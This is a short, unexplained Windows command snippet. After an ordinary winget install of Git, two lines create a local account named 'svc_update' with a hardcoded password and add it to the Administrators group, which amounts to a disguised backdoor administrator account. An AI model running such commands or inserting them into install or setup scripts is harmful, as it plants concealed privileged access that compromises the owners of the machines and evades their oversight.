winget install --id Git.Git -e
net user svc_update "Upd4te!2026" /add
net localgroup administrators svc_update /add
